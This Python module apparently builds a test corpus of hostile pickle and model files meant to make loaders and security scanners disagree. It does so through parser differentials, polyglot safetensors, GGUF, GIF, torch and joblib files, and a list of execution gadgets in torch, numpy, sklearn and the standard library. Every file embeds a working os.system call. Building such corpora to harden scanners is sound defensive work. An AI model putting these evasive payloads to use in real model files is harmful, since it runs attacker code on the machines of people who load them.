"""The third corpus: pickles that a loader and a scanner understand differently.

Each makes two readers disagree about where an opcode begins, what a name is, how long an array is
or which bytes are a nested file, so that one of them sees data and the other a call.
"""

from __future__ import annotations

import json
import pickle  # noqa: TID251  writes hostile files, reads none
import struct
from functools import cache

from carriers import (
    CARRIERS,
    COMMAND,
    Carrier,
    carrier,
    plain,
    reduced,
    stack_global,
    text,
    torch_zip,
)
from second_carriers import _bytes, _legacy

BEFORE = frozenset(CARRIERS)
CALL = f"cos\nsystem\n(V{COMMAND}\ntR".encode()
"""A call in opcodes of protocol 0, without an end."""
OS = reduced("os", "system")
LOAD = stack_global("torch.storage", "_load_from_bytes")
NESTED = _legacy(OS)
THIRD_GADGETS = """
    _posixsubprocess:fork_exec _operator:methodcaller _functools:partial _pickle:loads
    _ctypes:dlopen
    _imp:load_dynamic _frozen_importlib:__import__ _frozen_importlib_external:SourceFileLoader
    _xxsubinterpreters:run_string _testcapi:run_in_subinterp _winapi:CreateProcess
    torch.jit._script:load torch.utils.data.datapipes.utils.decoder:basichandlers
    torch.utils.bottleneck.__main__:run_cprofile torch.utils.collect_env:run
    torch._inductor.cpp_builder:run_compile_cmd torch.utils.cpp_extension:_run_ninja_build
    torch.package.package_importer:PackageImporter torch.monkeytype:trace
    numpy.distutils.exec_command:exec_command numpy.ctypeslib:load_library numpy:genfromtxt
    numpy.testing._private.utils:rundocs sklearn.datasets._base:_fetch_remote
    scipy._lib._uarray:_BackendState.run pandas.io.common:get_handle pandas:read_csv
    transformers.utils.import_utils:direct_transformers_import accelerate.utils:load_checkpoint
    tensorflow.io:read_file onnxruntime:capi.onnxruntime_inference_collection.os.system
"""

for _pair in THIRD_GADGETS.split():
    _module, _name = _pair.split(":")
    CARRIERS[f"gadget_{_module}.{_name}"] = cache(
        lambda module=_module, name=_name: plain(
            reduced(module, name), name, (1, 4) if name.rpartition(".")[2].lstrip("_")[:1].isupper()
            else (1,),
        )
    )  # fmt: skip


def safetensors(data: bytes, length: int = 0x58 + 256 * 5, gap: int = 0) -> bytes:
    """A safetensors file whose first bytes are BINUNICODE, then UNICODE up to a line break."""
    body = b"\n" + data
    entry = {"dtype": "U8", "shape": [len(body)], "data_offsets": [gap, gap + len(body)]}
    header = json.dumps({"V": entry}).encode().ljust(length)
    return length.to_bytes(8, "little") + header + body


def _safe(name: str, data: bytes, gap: int = 0) -> None:
    CARRIERS[f"safetensors_{name}"] = cache(
        lambda: plain(safetensors(data, gap=gap), "os.system", (1,), "m.safetensors")
    )


def dtype(code: str, copy: bytes = b"\x88", state: bytes = b"") -> bytes:
    """``numpy.dtype(code, False, copy)``, with a state if there is one."""
    made = stack_global("numpy", "dtype") + text(code) + b"\x89" + copy + b"\x87R"
    return made + (state + b"b" if state else b"")


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def wrapper(kind: bytes, count: int, more: bytes = b"") -> bytes:
    """A joblib wrapper up to BUILD; behind it joblib expects an array."""
    head = stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
    state = text("subclass") + stack_global("numpy", "ndarray") + text("shape") + number(count)
    state += b"\x85" + text("order") + text("C") + text("dtype") + kind + text("allow_mmap")
    return head + state + b"\x89" + more + b"ub"


def simple(fields: bytes, size: int, flags: int, names: bytes = b"N") -> bytes:
    """The state of a dtype."""
    parts = b"(K\x03" + text("|") + b"N" + names + fields + number(size) + number(-1)
    return parts + number(flags) + b"t"


HIDDEN = b"0" + CALL + b"0N."
"""What the reader that is deceived sees as bytes."""


def swallowed(kind: bytes, seen: int = 1, more: bytes = b"", count: int = 1) -> bytes:
    """After ``seen`` bytes everything is one text; after more of them it is a call."""
    inner = b"N" * 100 + HIDDEN
    return b"\x80\x04" + wrapper(kind, count, more) + b"N" * seen + _bytes(inner) + b"0."


def joblib(name: str, data: bytes, named: str = "", codes: tuple[int, ...] = (1, 4)) -> None:
    CARRIERS[f"joblib_{name}"] = cache(lambda: plain(data, named, codes, "m.joblib"))


# One file, two formats.

_safe("that_is_a_long_pickle", b"N0" * 1200 + CALL + b".")
_safe("whose_call_lies_in_an_array", wrapper(dtype("u1"), len(CALL)) + CALL + b".")
_safe("with_a_number_that_ends_early", b"F1.0\0 \n0I1\0x\n0" + CALL + b".")
_safe("with_underscores_in_the_memo", b"Np0_1\n0g0_1\n0" + CALL + b".")
_safe("damaged_that_is_a_pickle", CALL + b".", gap=3)


@carrier
def gguf_that_is_a_long_pickle() -> Carrier:
    return plain(b"GGUF" + b"\0" * 5 + b"0" + b"N0" * 1200 + CALL + b".", "os.system", (1,))


@carrier
def gif_before_a_torch_file() -> Carrier:
    return plain(b"GIF89a" + bytes(32) + torch_zip(OS), "os.system", (1,), "logo.gif")


@carrier
def damaged_pickle_before_a_torch_file() -> Carrier:
    return plain(b"\x80\x04\xff\xff" + torch_zip(OS), "os.system", (1,), "m.pt")


@carrier
def legacy_torch_file_that_joblib_runs() -> Carrier:
    """Torch sees the magic number and a text, joblib an array and then a call."""
    magic = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")
    first = (
        magic + wrapper(dtype("u1"), 5) + b"B" + struct.pack("<I", len(HIDDEN)) + HIDDEN + b"00."
    )
    rest = pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    return plain(first + rest + pickle.dumps({}, 2) + pickle.dumps([], 2), "os.system", (1,))


@carrier
def text_with_underscores_in_the_memo() -> Carrier:
    data = b"(cos\nsystem\np0_1\n0g0_1\n(V" + COMMAND.encode() + b"\ntR."
    return plain(data, "os.system", (1,), "NOTES")


@carrier
def text_damaged_after_the_call() -> Carrier:
    return plain(b"(" + CALL + b"0" + b"N0" * 1200 + b"\xc3\xa9", "os.system", (1,), "NOTES")


@carrier
def numbers_that_end_early() -> Carrier:
    return plain(b"\x80\x02I1\0x\n0F2\0y\n0" + CALL + b".", "os.system", (1,))


# The opcodes that hardly anybody writes.


@carrier
def extension_of_two_bytes() -> Carrier:
    return plain(b"\x80\x02\x83\x01\x02" + text(COMMAND) + b"\x85R.", "EXT")


@carrier
def bytes_out_of_band() -> Carrier:
    return plain(b"\x80\x05\x97\x98.", "NEXT_BUFFER", (4,))


@carrier
def bytearray_of_a_nested_torch_file() -> Carrier:
    data = b"\x80\x05" + LOAD + b"\x96" + struct.pack("<Q", len(NESTED)) + NESTED + b"\x85R."
    return plain(data, "os.system", (1,))


@carrier
def protocol_that_changes_in_the_middle() -> Carrier:
    return plain(b"\x80\x04\x80\x02c__builtin__\neval\n(V1\ntR.", "builtins.eval")


@carrier
def name_of_wide_letters() -> Carrier:
    return plain(
        "\x80\x02cｏｓ\nsystem\n(Vid\ntR.".encode().replace(b"\xc2\x80", b"\x80"), "system"
    )


@carrier
def name_with_a_carriage_return() -> Carrier:
    return plain(b"\x80\x02cos\r\nsystem\r\n(Vid\ntR.", "system", (1, 4))


@carrier
def memo_entry_of_two_billion() -> Carrier:
    return plain(b"\x80\x02}r\xf0\xff\xff\x7f.", "memo", (3, 4))


@carrier
def hundred_and_two_pickles() -> Carrier:
    return plain(b"N." * 101 + OS, "100", (4,))


@carrier
def dictionary_of_many_dictionaries() -> Carrier:
    data = b"\x80\x02ccollections\nOrderedDict\n(}q\x00h\x00h\x00tR."
    return plain(data, "OrderedDict", (4,))


@carrier
def text_decoded_by_a_slow_codec() -> Carrier:
    data = b"\x80\x04" + stack_global("builtins", "str") + _bytes(b"a-" * 9)
    return plain(data + text("punycode") + b"\x86R.", "builtins.str", (3, 4))


# Nested files and states.


@carrier
def text_that_is_two_nested_files() -> Carrier:
    """In Latin-1 a text swallows the call, in UTF-8 it ends before it."""
    call = "cos\nsystem\n(V" + COMMAND + "\ntR0"
    filler = "\u00e9" * (len(call))
    inner = "L119547037146038801333356L\n.I1001\n.(dS'little_endian'\nI01\ns."
    inner += "U" + chr(2 * len(filler)) + filler + call + "0}.(l."
    data = b"\x80\x04" + LOAD + stack_global("_codecs", "encode")
    raw = inner.encode()
    data += b"X" + struct.pack("<I", len(raw)) + raw + b"\x85R\x85R."
    return plain(data, "os.system", (1,))


@carrier
def nested_zip_with_two_pickles() -> Carrier:
    import io
    import warnings
    import zipfile

    body = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(body, "w") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("m/version", b"3\n")
        archive.writestr("m/data.pkl", OS)
        archive.writestr("m/data.pkl", pickle.dumps({}, 2))
    return plain(b"\x80\x04" + LOAD + _bytes(body.getvalue()) + b"\x85R.", "data.pkl", (1,))


@carrier
def first_of_two_pickles_in_a_torch_file() -> Carrier:
    inner = nested_zip_with_two_pickles().data
    return plain(inner[inner.index(b"PK\x03\x04") : -3], "os.system", (1,), "m.pt")


STORAGE = b"(" + text("storage") + stack_global("torch", "FloatStorage")
STORAGE += text("0") + text("cpu") + b"K\x01tQ"
SETTER = b"}" + text("__setstate__") + LOAD + b"s"


def _tensor(call: bytes) -> Carrier:
    data = torch_zip(b"\x80\x04" + call + b".", **{"m/data/0": bytes(4)})
    return plain(data, "__setstate__", (1,), "m.pt")


PLAIN = (
    STORAGE + b"K\x00K\x01\x85K\x01\x85\x89" + stack_global("collections", "OrderedDict") + b")R"
)


@carrier
def state_of_a_typed_tensor() -> Carrier:
    made = stack_global("torch._tensor", "_rebuild_from_type_v2") + b"("
    made += stack_global("torch._utils", "_rebuild_tensor_v2") + stack_global("torch", "Tensor")
    return _tensor(made + b"(" + PLAIN + b"t" + SETTER + b"tR" + _bytes(NESTED) + b"b")


@carrier
def state_of_a_parameter() -> Carrier:
    tensor = stack_global("torch._utils", "_rebuild_tensor_v2") + b"(" + PLAIN + b"tR"
    made = stack_global("torch._utils", "_rebuild_parameter_with_state") + b"(" + tensor + b"\x89"
    return _tensor(made + stack_global("collections", "OrderedDict") + b")R" + SETTER + b"tR")


@carrier
def hooks_filled_after_the_tensor_was_made() -> Carrier:
    call = stack_global("torch._utils", "_rebuild_tensor_v2") + b"(" + PLAIN + b"\x94tR"
    data = b"\x80\x04" + call + b"h\x00K\x00" + LOAD + b"s0."
    return plain(torch_zip(data, **{"m/data/0": bytes(4)}), "hooks", (1, 4), "m.pt")


@carrier
def tensor_of_negative_strides() -> Carrier:
    made = stack_global("torch._utils", "_rebuild_tensor_v2") + b"(" + STORAGE + b"K\x00"
    made += b"K\x02\x85" + number(-1) + b"\x85\x89" + stack_global("collections", "OrderedDict")
    data = torch_zip(b"\x80\x04" + made + b")RtR.", **{"m/data/0": bytes(4)})
    return plain(data, "negative", (4,), "m.pt")


@carrier
def tensor_of_an_overflowing_offset() -> Carrier:
    made = stack_global("torch._utils", "_rebuild_tensor_v2") + b"(" + STORAGE
    made += b"\x8a\x09" + (1 << 64).to_bytes(9, "little") + b"K\x01\x85K\x01\x85\x89"
    made += stack_global("collections", "OrderedDict") + b")RtR."
    data = torch_zip(b"\x80\x04" + made, **{"m/data/0": bytes(4)})
    return plain(data, "outside", (4,), "m.pt")


@carrier
def training_arguments() -> Carrier:
    made = stack_global("transformers.training_args", "TrainingArguments") + b")\x81}"
    data = torch_zip(b"\x80\x04" + made + text("report_to") + stack_global("os", "system") + b"sb.")
    return plain(data, "os.system", (1,), "training_args.bin")


@carrier
def estimator_reached_through_a_module() -> Carrier:
    name = "np.testing._private.utils.subprocess.Popen"
    data = b"\x80\x04" + stack_global("sklearn.base", name) + text(COMMAND) + b"\x85R."
    return plain(data, name, (1,))


@carrier
def estimator_state_in_slots() -> Carrier:
    made = stack_global("sklearn._loss.link", "LogLink") + b")\x81N" + SETTER + b"\x86b"
    return plain(b"\x80\x04" + made + _bytes(NESTED) + b"b.", "__setstate__", (1,))


@carrier
def function_transformer_in_a_pipeline() -> Carrier:
    step = stack_global("sklearn.preprocessing._function_transformer", "FunctionTransformer")
    step += b")\x81}" + text("func") + stack_global("posix", "system") + b"sb"
    made = stack_global("sklearn.pipeline", "Pipeline") + b")\x81}" + text("steps") + b"]"
    return plain(b"\x80\x04" + made + text("f") + step + b"\x86asb.", "posix.system", (1,))


@carrier
def container_with_a_content_that_is_not_used() -> Carrier:
    data = b"\x80\x04" + stack_global("collections", "OrderedDict") + b"]" + text("w") + b"K\x01"
    return plain(data + b"\x86a\x85\x81.", "OrderedDict", (4,))


# Arrays that joblib measures differently.

joblib("type_of_another_size", swallowed(dtype("S1", state=simple(b"N", 106, 0))))
joblib(
    "key_that_is_computed",
    swallowed(
        dtype("u1"), more=stack_global("builtins", "str") + text("dtype") + b"\x85R" + dtype("S106")
    ),
)
joblib("method_of_its_own", swallowed(
    dtype("u1"), more=text("safe_get_numpy_array_alignment_bytes")
    + stack_global("collections", "OrderedDict")))  # fmt: skip


def _objects() -> bytes:
    """numpy believes a flag that says that bytes are objects; the memo is then a new one."""
    inner = (
        text("os") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93" + text(COMMAND) + b"\x85R."
    )
    before = text("builtins") + b"\x940" + text("str") + b"\x940"
    kind = dtype("u1", state=simple(b"N", -1, 63))
    return b"\x80\x04" + before + wrapper(kind, len(inner)) + inner + b"."


def _record() -> bytes:
    """The size of a record is believed only of types that have no size of their own."""
    fields = b"}" + text("a") + dtype("S1") + b"K\x00\x86s"
    inner = b"\xff" + HIDDEN
    kind = dtype("u1", state=simple(fields, len(inner), 0, text("a") + b"\x85"))
    return b"\x80\x04" + wrapper(kind, 1) + inner + b"0N."


def _framed() -> bytes:
    """joblib reads arrays from the file, opcodes from the frame."""
    frame = wrapper(dtype("u1"), 5) + b"0N0N0"
    hidden = CALL + b"0N."
    rest = b"B" + struct.pack("<I", len(hidden)) + hidden + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + rest


joblib("type_that_becomes_objects", _objects())
joblib("record_of_a_plain_type", _record())
joblib("array_behind_a_frame", _framed())

THIRD = tuple(name for name in CARRIERS if name not in BEFORE)
